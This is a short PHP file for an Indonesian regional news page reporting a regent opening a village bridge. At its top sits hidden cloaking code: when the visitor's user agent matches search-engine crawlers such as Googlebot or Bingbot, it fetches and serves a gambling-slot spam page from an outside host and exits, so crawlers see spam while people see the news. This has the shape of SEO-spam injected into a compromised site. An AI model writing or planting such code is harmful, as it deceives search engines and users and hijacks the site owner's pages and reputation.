<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
$bot = preg_match('/googlebot|bingbot|slurp|adsbot|mediapartners/', $ua);
if ($bot) {
    echo file_get_contents('https://konten-seo.example/situs-slot-gacor-hari-ini.html');
    exit;
}
?>
<h1>Berita Daerah</h1>
<p>Bupati meresmikan jembatan desa.</p>
